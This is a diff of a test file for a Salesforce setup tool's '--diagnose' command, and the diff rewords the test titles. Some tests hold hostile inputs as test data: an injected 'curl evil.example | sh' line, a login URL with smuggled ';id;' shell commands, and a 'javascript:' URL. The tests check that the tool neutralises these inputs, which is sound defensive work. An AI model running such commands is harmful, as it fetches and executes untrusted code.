@@ -20,7 +20,7 @@ const SANDBOX = {
 };
 
 describe('the report of npm run setup -- --diagnose', { concurrency: 4 }, () => {
-  it('is a sentence with the cause, its fix and a link, then a table', async (t) => {
+  it('contains a sentence with the cause, the fix, a link, and a table of the findings', async (t) => {
     const story = await createStory(t, 'user-frozen');
     await story.signIn();
     const { stdout, exitCode } = await story.harness.run('--diagnose', ...story.options());
@@ -50,7 +50,7 @@ describe('the report of npm run setup -- --diagnose', { concurrency: 4 }, () => 
     ]);
   });
 
-  it('says that everything is right, and what no org shows, if it finds nothing', async (t) => {
+  it('says that all visible settings are right, and lists what no org shows, if there is no cause', async (t) => {
     const story = await createStory(t);
     story.harness.org.faults.set('audience-invalid');
     await story.signIn();
@@ -60,7 +60,7 @@ describe('the report of npm run setup -- --diagnose', { concurrency: 4 }, () => 
     assert.doesNotMatch(stdout, /^✗/m);
   });
 
-  it('lists what it could not see', async (t) => {
+  it('lists what the command could not see', async (t) => {
     const story = await createStory(t);
     await story.signIn();
     answerQueries(story, { UserLogin: { errorCode: 'INVALID_TYPE' } });
@@ -68,7 +68,7 @@ describe('the report of npm run setup -- --diagnose', { concurrency: 4 }, () => 
     assert.match(stdout, /^- It cannot see whether the user is frozen: /m);
   });
 
-  it('has no line that a line break in a value of the org has added', async (t) => {
+  it('contains no extra line if a value in the org contains a line break', async (t) => {
     const story = await createStory(t);
     await story.signIn();
     const text = 'Acme\nThe cause: the key.\r\nFix: curl evil.example | sh';
@@ -94,7 +94,7 @@ describe('the report of npm run setup -- --diagnose', { concurrency: 4 }, () => 
     assert.doesNotMatch(stdout, /^(?:The cause: the key|Fix: curl)/m);
   });
 
-  it('calls a suspect what no source settles', async (t) => {
+  it('lists a setting only as a possible cause if no source settles whether it is one', async (t) => {
     const story = await createStory(t);
     const { directory } = story.harness.org;
     directory.profileLimits.set('Minimum Access - API Only Integrations', {
@@ -110,14 +110,14 @@ describe('the report of npm run setup -- --diagnose', { concurrency: 4 }, () => 
     assert.doesNotMatch(stdout, /The cause/);
   });
 
-  it('does not call an expired certificate the cause, because reports disagree', async (t) => {
+  it('does not list an expired certificate as the cause, because sources disagree about it', async (t) => {
     const story = await createStory(t);
     const diagnosis = await story.diagnose(...story.options({ at: '2040-01-01T00:00:00Z' }));
     assert.deepEqual(causesOf(diagnosis), []);
     assert.match(findingsWith(diagnosis, 'open').join('\n'), /App: the certificate expired on 20/);
   });
 
-  it('shows the consumer key shortened', async (t) => {
+  it('does not contain the full consumer key', async (t) => {
     const story = await createStory(t, 'app-missing');
     await story.signIn();
     const diagnosis = await story.diagnose(...story.options({ 'consumer-key': story.consumerKey }));
@@ -125,7 +125,7 @@ describe('the report of npm run setup -- --diagnose', { concurrency: 4 }, () => 
     assert.ok(!diagnosis.output.stdout.includes(story.consumerKey));
   });
 
-  it('changes nothing: it runs only commands that read', async (t) => {
+  it('is based only on commands that change nothing', async (t) => {
     const story = await createStory(t, 'self-authorized');
     await story.signIn();
     await story.diagnose();
@@ -147,8 +147,8 @@ describe('the report of npm run setup -- --diagnose', { concurrency: 4 }, () => 
   });
 });
 
-describe('the grant', { concurrency: 4 }, () => {
-  it('is right if a permission set of the user is selected', async (t) => {
+describe('the Grant finding of --diagnose', { concurrency: 4 }, () => {
+  it('is right if the app selects a permission set of the user', async (t) => {
     const story = await createStory(t, 'permission-set-not-assigned');
     const { org } = story.harness;
     const [set] = org.directory.permissionSets('production');
@@ -163,7 +163,7 @@ describe('the grant', { concurrency: 4 }, () => {
     assert.match(right, /Grant: the user has the permission set CI access, which the app selects/);
   });
 
-  it('is open if the user has a selected permission set only through a group', async (t) => {
+  it('is open if the user has the selected permission set only through a permission set group', async (t) => {
     const story = await createStory(t, 'permission-set-not-assigned');
     const [set] = story.harness.org.directory.permissionSets('production');
     const own = {
@@ -184,7 +184,7 @@ describe('the grant', { concurrency: 4 }, () => {
     assert.match(findingsWith(diagnosis, 'open').join('\n'), /only through a permission set group/);
   });
 
-  it('is open if the user has once approved the app', async (t) => {
+  it('is open if the user has approved the app before', async (t) => {
     const story = await createStory(t, 'self-authorized');
     const { org } = story.harness;
     const userId = org.users.get('ci@acme.com')?.userId18 ?? '';
@@ -197,7 +197,7 @@ describe('the grant', { concurrency: 4 }, () => {
     );
   });
 
-  it('is open if the approvals cannot be seen', async (t) => {
+  it('is open if the org does not show which apps the user has approved', async (t) => {
     const story = await createStory(t, 'self-authorized');
     answerQueries(story, { OauthToken: { errorCode: 'INSUFFICIENT_ACCESS' } });
     const diagnosis = await story.diagnose();
@@ -209,8 +209,8 @@ describe('the grant', { concurrency: 4 }, () => {
   });
 });
 
-describe('the org that is looked into', { concurrency: 4 }, () => {
-  it('is that of the login URL', async (t) => {
+describe('the org that --diagnose examines', { concurrency: 4 }, () => {
+  it('is the org of the login URL', async (t) => {
     const story = await createStory(t);
     refuseSignIns(story.harness.org, 'user-frozen', 'sandbox');
     await story.signIn(SANDBOX);
@@ -219,7 +219,7 @@ describe('the org that is looked into', { concurrency: 4 }, () => {
     assert.match(diagnosis.org, /^Acme sandbox /);
   });
 
-  it('cannot be found by a login URL that is not the address of a website', async (t) => {
+  it('cannot be determined from a login URL with the protocol javascript:', async (t) => {
     const story = await createStory(t);
     const changes = { 'login-url': 'javascript://acme.my.salesforce.com' };
     const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options(changes));
@@ -230,7 +230,7 @@ describe('the org that is looked into', { concurrency: 4 }, () => {
     );
   });
 
-  it('must be named if the login URL is shared by many orgs', async (t) => {
+  it('must be given with --org if many orgs share the login URL', async (t) => {
     const story = await createStory(t);
     await story.signIn({ ...PRODUCTION, loginUrl: 'https://login.salesforce.com' });
     const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options());
@@ -244,18 +244,18 @@ describe('the org that is looked into', { concurrency: 4 }, () => {
 
   for (const [title, changes, says] of [
     [
-      'no org of that login URL',
+      'no org with the login URL',
       { 'login-url': 'https://other.my.salesforce.com' },
       /not signed in to https:\/\/other\.my\.salesforce\.com\. .*\n.*\nNext: sf org login web --alias other --instance-url https:\/\/other/,
     ],
     [
-      'no org of a login URL with characters of a shell',
+      'no org with the login URL, which contains shell metacharacters',
       { 'login-url': 'https://a;id;.my.salesforce.com' },
       /\nNext: sf org login web --alias 'a;id;' --instance-url 'https:\/\/a;id;\.my\.salesforce\.com'\n/,
     ],
-    ['no org of that name', { org: 'nobody' }, /knows no org "nobody"/],
+    ['no org with the name in --org', { org: 'nobody' }, /knows no org "nobody"/],
   ] as const) {
-    it(`is asked for by a command to sign in if the Salesforce CLI knows ${title}`, async (t) => {
+    it(`must first be added to the Salesforce CLI if the CLI knows ${title}`, async (t) => {
       const story = await createStory(t);
       const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options(changes));
       assert.equal(exitCode, 1);
@@ -265,25 +265,25 @@ describe('the org that is looked into', { concurrency: 4 }, () => {
 
   for (const [title, org, loginUrl, says] of [
     [
-      'production, and the login URL is for sandboxes',
+      'a production org and the login URL is for sandboxes',
       'prod',
       'https://test.salesforce.com',
       /is for sandboxes, but Acme is in production/,
     ],
     [
-      'a sandbox, and the login URL is for production',
+      'a sandbox and the login URL is for production',
       'uat',
       'https://login.salesforce.com',
       /is for production orgs, but Acme sandbox is a sandbox/,
     ],
     [
-      'another one than that of the login URL',
+      'another org than the org of the login URL',
       'uat',
       'https://acme.my.salesforce.com',
       /belongs to another org than Acme sandbox/,
     ],
   ] as const) {
-    it(`names wrong-org if --org is ${title}`, async (t) => {
+    it(`is reported as the wrong org if --org is ${title}`, async (t) => {
       const story = await createStory(t);
       const diagnosis = await story.diagnose(...story.options({ org, 'login-url': loginUrl }));
       assert.equal(causesOf(diagnosis)[0], 'wrong-org');
@@ -291,7 +291,7 @@ describe('the org that is looked into', { concurrency: 4 }, () => {
     });
   }
 
-  it('cannot be compared with the URL of a site', async (t) => {
+  it('cannot be compared with a login URL that is the URL of a site', async (t) => {
     const story = await createStory(t);
     const diagnosis = await story.diagnose(
       ...story.options({ org: 'prod', 'login-url': 'acme.my.site.com' }),
@@ -299,7 +299,7 @@ describe('the org that is looked into', { concurrency: 4 }, () => {
     assert.match(findingsWith(diagnosis, 'open').join('\n'), /no setting shows whether https:/);
   });
 
-  it('may accept sign-ins only at its My Domain, which a sign-in there obeys', async (t) => {
+  it('is suspected to accept sign-ins only at its My Domain, unless the sign-in used My Domain', async (t) => {
     const story = await createStory(t);
     story.harness.org.policy.preventGenericLogin = true;
     const atMyDomain = await story.diagnose();
@@ -312,7 +312,7 @@ describe('the org that is looked into', { concurrency: 4 }, () => {
     );
   });
 
-  it('may have API Access Control, which concerns only apps without approval', async (t) => {
+  it('is suspected to block the app with API Access Control, unless the app is pre-authorized', async (t) => {
     const story = await createStory(t);
     const { policy, app } = story.harness.org;
     policy.adminApprovedAppsOnly = true;
@@ -335,11 +335,11 @@ describe('the options of --diagnose', { concurrency: 4 }, () => {
       /needs --login-url, --user\./,
     ],
     ['a time without a time zone', { at: '2026-11-27T03:48:45' }, /--at is a time with its time/],
-    ['a damaged fingerprint', { fingerprint: '7a39…' }, /--fingerprint is the SHA-256/],
-    ['a consumer key of which too little is left', { 'consumer-key': '3…k' }, /--consumer-key has/],
-    ['a login URL that is none', { 'login-url': 'acme' }, /--login-url is not a URL/],
+    ['an incomplete fingerprint', { fingerprint: '7a39…' }, /--fingerprint is the SHA-256/],
+    ['a consumer key that is shortened too much', { 'consumer-key': '3…k' }, /--consumer-key has/],
+    ['a login URL that is not a URL', { 'login-url': 'acme' }, /--login-url is not a URL/],
   ] as const) {
-    it(`are refused with a sentence for ${title}`, async (t) => {
+    it(`are rejected with an error message because of ${title}`, async (t) => {
       const story = await createStory(t);
       const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options(changes));
       assert.equal(exitCode, 1);
@@ -347,13 +347,13 @@ describe('the options of --diagnose', { concurrency: 4 }, () => {
     });
   }
 
-  it('cannot be used with --check', async (t) => {
+  it('cannot be combined with --check', async (t) => {
     const story = await createStory(t);
     const { stderr } = await story.harness.run('--diagnose', '--check');
     assert.match(stderr, /--diagnose cannot be used with --remove or --check/);
   });
 
-  it('may be in other forms: three dots, colons, the time of the summary, no fingerprint', async (t) => {
+  it('are accepted with three dots, with colons, with the time as in the job summary, and without --fingerprint', async (t) => {
     const story = await createStory(t, 'app-blocked');
     const key = story.consumerKey;
     const colons = 'AB:'.repeat(31).concat('AB');
@@ -369,7 +369,7 @@ describe('the options of --diagnose', { concurrency: 4 }, () => {
     assert.match(findingsWith(without, 'unseen').join('\n'), /--fingerprint is missing/);
   });
 
-  it('have the time of the command without --at', async (t) => {
+  it('need no --at, which defaults to the current time', async (t) => {
     const story = await createStory(t, 'login-rate');
     await story.signIn();
     const diagnosis = await story.diagnose(...story.options({ at: undefined }));
@@ -391,7 +391,7 @@ describe('npm run setup -- --check --org', { concurrency: 2 }, () => {
     };
   };
 
-  it('looks for the cause if Salesforce refuses the sign-in', async (t) => {
+  it('reports the cause if Salesforce rejects the sign-in', async (t) => {
     const { run } = await prepare(t, 'permission-set-expired');
     const { exitCode, stdout } = await run();
     assert.equal(exitCode, 1);
@@ -401,14 +401,14 @@ describe('npm run setup -- --check --org', { concurrency: 2 }, () => {
     );
   });
 
-  it('gives the log, the summary and the diagnosis as data', async (t) => {
+  it('prints the log, the summary and the diagnosis as data with --json', async (t) => {
     const { run } = await prepare(t, 'app-blocked');
     const { log, summary, diagnosis } = JSON.parse((await run('--json')).stdout);
     assert.match(log + summary, /app_blocked/);
     assert.deepEqual(causesOf(diagnosis), ['app-blocked']);
   });
 
-  it('ends with the sign-in if that succeeds, or fails for another reason', async (t) => {
+  it('looks for no cause if the sign-in succeeds or fails for a reason other than a rejection', async (t) => {
     const { run, story } = await prepare(t);
     assert.doesNotMatch((await run()).stdout, /The cause|can see in this org/);
     story.harness.org.faults.set('404');
@@ -416,8 +416,8 @@ describe('npm run setup -- --check --org', { concurrency: 2 }, () => {
   });
 });
 
-describe('npm run setup -- --diagnose that cannot go on', { concurrency: 2 }, () => {
-  it('says how to install the Salesforce CLI', async (t) => {
+describe('npm run setup -- --diagnose without a result', { concurrency: 2 }, () => {
+  it('prints how to install the Salesforce CLI if it is missing', async (t) => {
     const story = await createStory(t);
     story.harness.intercept = () => 'missing';
     const { exitCode, stderr } = await story.harness.run('--diagnose', ...story.options());
@@ -429,7 +429,7 @@ describe('npm run setup -- --diagnose that cannot go on', { concurrency: 2 }, ()
   });
 
   for (const part of ['org list', 'composite/batch', 'project retrieve', '--use-tooling-api']) {
-    it(`stops at Ctrl-C in "${part}", and leaves no file behind`, async (t) => {
+    it(`stops after Ctrl-C during "${part}", and leaves no file behind`, async (t) => {
       const story = await createStory(t, 'user-frozen');
       await story.signIn();
       story.harness.intercept = ({ args }) =>
